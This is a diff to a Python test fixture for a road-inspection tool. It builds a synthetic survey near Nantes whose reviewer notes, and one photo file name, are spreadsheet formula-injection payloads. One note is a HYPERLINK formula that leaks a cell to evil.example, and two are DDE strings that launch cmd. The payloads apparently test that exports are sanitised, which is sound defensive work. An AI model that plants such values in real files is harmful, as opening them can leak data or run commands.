@@ -79,11 +79,12 @@ def drive(n: int, step_m: float, heading: float = 0.0, start: GeoPoint = ORIGIN)
     return [photo(i, offset_position(start, heading, 0.0, i * step_m), heading) for i in range(n)]
 
 
-def render(ph: Photo, objects: list[tuple[int, list[tuple[float, float]]]], camera: CameraModel = CAMERA) -> np.ndarray:
-    """Working-resolution mask of ``ph`` seeing ``objects``: (class value, corners in metres east/north of ORIGIN)."""
+def render(ph: Photo, objects: list[tuple[int, list[tuple[float, float]]]], camera: CameraModel = CAMERA,
+           base: GeoPoint = ORIGIN) -> np.ndarray:
+    """Working-resolution mask of ``ph`` seeing ``objects``: (class value, corners in metres east/north of ``base``)."""
     from roadinspect.core.geo import MetricFrame
 
-    frame = MetricFrame(ORIGIN)
+    frame = MetricFrame(base)
     pe, pn = frame.to_xy([ph.position])[0]
     h = np.radians(ph.heading_deg or 0.0)
     mask = blank()
@@ -109,6 +110,63 @@ def survey(n: int, step_m: float, objects: list[tuple[int, list[tuple[float, flo
     photos = {first_photo_id + i: p for i, p in enumerate(drive(n, step_m, heading, start))}
     findings = []
     for pid, ph in photos.items():
-        for f in extract_findings(segmentation(render(ph, objects)), ph, CAMERA):
+        for f in extract_findings(segmentation(render(ph, objects, base=start)), ph, CAMERA):
             findings.append(replace(f, id=first_finding_id + len(findings), photo_id=pid))
     return photos, findings
+
+
+def along(heading: float, corners: list[tuple[float, float]]) -> list[tuple[float, float]]:
+    """Road corners (across, along a drive heading ``heading``) as metres east/north."""
+    h = np.radians(heading)
+    return [(x * np.cos(h) + y * np.sin(h), -x * np.sin(h) + y * np.cos(h)) for x, y in corners]
+
+
+HOSTILE_NOTES = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    'Chaussée déformée; "très" abîmée, à reprendre',
+    "\tTabulation puis texte",
+)
+NANTES = GeoPoint(lat=47.2, lon=-1.55)
+"""West of Greenwich: negative longitudes must stay numbers in exports."""
+
+
+def export_scene(folder: Path | None = None):
+    """A project of a 60 m drive near Nantes with six potholes and a crack, reviewed with hostile notes.
+
+    Returns ``ProjectData``. When ``folder`` is given, every photo is written there as a small JPEG
+    (so the report can crop it) and one photo is named with a leading ``=``.
+    """
+    from dataclasses import replace
+
+    from PIL import Image
+
+    from roadinspect.core.maintenance import ProjectData
+    from roadinspect.core.sites import build_sites
+    from roadinspect.core.types import Review, ReviewStatus
+
+    heading = 30.0
+    objects = [(2, along(heading, rect(-0.3 + 0.15 * k, 9.0 + 9.0 * k, 0.3 + 0.25 * k, 9.6 + 9.1 * k)))
+               for k in range(6)]
+    objects.append((1, along(heading, rect(0.9, 12.0, 0.96, 17.0))))
+    photos, findings = survey(16, 4.0, objects, heading=heading, start=NANTES)
+    if folder is not None:
+        rng = np.random.default_rng(0)
+        pixels = (rng.random((IMAGE_H // 8, IMAGE_W // 8, 3)) * 255).astype(np.uint8)
+        image = Image.fromarray(pixels).resize((IMAGE_W, IMAGE_H))
+        for pid, ph in list(photos.items()):
+            name = "=IMG 'é' 0003.jpg" if pid == 4 else ph.path.name
+            path = folder / name
+            image.save(path, quality=70)
+            photos[pid] = replace(ph, path=path)
+    sites = build_sites(photos, findings)
+    reviews = {}
+    for site, note in zip(sites, HOSTILE_NOTES, strict=False):
+        fid = site.finding_ids[0]
+        reviews[fid] = Review(fid, ReviewStatus.ACCEPTED, reviewer="Zoé", note=note)
+    rejected = sites[-1].finding_ids
+    for fid in rejected:
+        reviews[fid] = Review(fid, ReviewStatus.REJECTED, reviewer="Zoé")
+    return ProjectData(photos=photos, findings=findings, reviews=reviews, name="Tournée d'essai")
